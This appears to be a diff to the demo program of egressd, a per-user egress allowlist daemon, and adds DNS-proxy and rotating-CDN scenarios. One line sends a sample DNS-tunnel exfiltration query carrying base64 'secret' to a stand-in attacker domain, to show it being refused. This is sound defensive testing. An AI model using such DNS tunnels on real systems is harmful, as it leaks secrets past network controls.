@@ -10,6 +10,8 @@ import (
 	"syscall"
 	"time"
 
+	"github.com/miekg/dns"
+
 	"github.com/egressd/egressd/internal/event"
 	"github.com/egressd/egressd/internal/testworld"
 )
@@ -20,6 +22,8 @@ const (
 	demoUIDBilling = 64001
 	demoUIDWeb     = 64002
 	demoUIDOther   = 64003
+	demoUIDFetcher = 64004 // dns: proxy
+	demoUIDMirror  = 64005 // the same name under dns: resolvers
 )
 
 var demoAddrs = []string{"192.0.2.53", "192.0.2.10", "192.0.2.11", "198.51.100.20", "2001:db8::10"}
@@ -37,6 +41,22 @@ user: 64001
 allow:
   - api.payments.example:443
 dns: resolvers
+`
+
+const demoFetcher = `# The fetcher downloads from a CDN whose name answers a different address
+# each time: its DNS goes through egressd's proxy, which allows exactly the
+# address each answer gave, before the fetcher sees it. Other names: REFUSED.
+user: 64004
+dns: proxy
+allow:
+  - cdn.example:443
+`
+
+const demoMirror = `# The mirror needs the same CDN, but resolves on its own (dns: resolvers):
+# egressd's own lookups and the mirror's get different answers.
+user: 64005
+allow:
+  - cdn.example:443
 `
 
 const demoWeb = `# The web service may reach one CDN range on 443; no DNS at all.
@@ -85,14 +105,18 @@ func demo(out io.Writer) error {
 	}
 	say("▶ example services listening on 192.0.2.10:443, :8080, 192.0.2.11:443, 198.51.100.20:443, :4444, [2001:db8::10]:443")
 
-	files := map[string]string{"egressd.yaml": demoMain, "allow.d/billing.yaml": demoBilling, "allow.d/web.yaml": demoWeb}
+	cdn := [][]netip.Addr{{netip.MustParseAddr("192.0.2.11")}, {netip.MustParseAddr("198.51.100.20")}, {netip.MustParseAddr("192.0.2.10")}}
+	dnsSrv.Set("cdn.example", testworld.Record{Rotate: cdn, TTL: 300})
+	say("▶ ... and cdn.example, a CDN name: each answer is the next of 192.0.2.11, 198.51.100.20, 192.0.2.10 (TTL 300s)")
+	files := map[string]string{"egressd.yaml": demoMain, "allow.d/billing.yaml": demoBilling, "allow.d/web.yaml": demoWeb,
+		"allow.d/fetcher.yaml": demoFetcher, "allow.d/mirror.yaml": demoMirror}
 	for name, body := range files {
 		if err := w.Write(name, body); err != nil {
 			return err
 		}
 	}
 	say("▶ configuration in %s:", w.Dir)
-	for _, name := range []string{"allow.d/billing.yaml", "allow.d/web.yaml"} {
+	for _, name := range []string{"allow.d/billing.yaml", "allow.d/web.yaml", "allow.d/fetcher.yaml", "allow.d/mirror.yaml"} {
 		say("  ── %s\n%s", name, indent(files[name]))
 	}
 
@@ -110,14 +134,17 @@ func demo(out io.Writer) error {
 	}
 	time.Sleep(200 * time.Millisecond)
 
-	probe := func(uid int, who, addr string) {
+	verdict := func(uid int, addr string) string {
 		start := time.Now()
 		err := w.DialAs(uid, "tcp", addr, 2*time.Second)
-		verdict := "ALLOWED"
+		v := "ALLOWED"
 		if err != nil {
-			verdict = "DENIED  (" + shortErr(err) + ")"
+			v = "DENIED  (" + shortErr(err) + ")"
 		}
-		say("  %-26s → %-22s %s in %v", who, addr, verdict, time.Since(start).Round(10*time.Microsecond))
+		return fmt.Sprintf("%s in %v", v, time.Since(start).Round(10*time.Microsecond))
+	}
+	probe := func(uid int, who, addr string) {
+		say("  %-26s → %-22s %s", who, addr, verdict(uid, addr))
 	}
 	say("\n▶ connections as each service user:")
 	probe(demoUIDBilling, "billing (uid 64001)", "192.0.2.10:443")
@@ -129,6 +156,26 @@ func demo(out io.Writer) error {
 	probe(demoUIDWeb, "web (uid 64002)", "192.0.2.10:443")
 	probe(demoUIDOther, "no allowlist (uid 64003)", "198.51.100.20:4444")
 	probe(0, "root", "198.51.100.20:4444")
+
+	say("\n▶ a rotating CDN name: each service resolves cdn.example itself (asking 192.0.2.53:53), then connects at once:")
+	for _, s := range []struct {
+		uid  int
+		who  string
+		mode string
+	}{{demoUIDFetcher, "fetcher (uid 64004)", "dns: proxy"}, {demoUIDMirror, "mirror (uid 64005)", "dns: resolvers"}} {
+		for i := 0; i < 3; i++ {
+			rcode, addrs, err := w.ResolveAs(s.uid, "192.0.2.53:53", "cdn.example", 2*time.Second)
+			if err != nil || rcode != dns.RcodeSuccess || len(addrs) == 0 {
+				say("  %-26s %s: cdn.example did not resolve: %v %s", s.who, s.mode, err, dns.RcodeToString[rcode])
+				continue
+			}
+			say("  %-26s %-15s cdn.example → %-15s connect :443 %s", s.who, s.mode, addrs[0], verdict(s.uid, netip.AddrPortFrom(addrs[0], 443).String()))
+		}
+	}
+	say("  (with dns: resolvers, egressd resolved cdn.example on its own and holds only the address it got)")
+	if rcode, _, err := w.ResolveAs(demoUIDFetcher, "192.0.2.53:53", "exfil-c2VjcmV0.attacker.example", 2*time.Second); err == nil {
+		say("  fetcher asks for exfil-c2VjcmV0.attacker.example (a DNS tunnel): %s, logged as dns_refused", dns.RcodeToString[rcode])
+	}
 
 	say("\n▶ DNS change: api.payments.example now answers 192.0.2.11 (was 192.0.2.10)")
 	m := w.Mark()
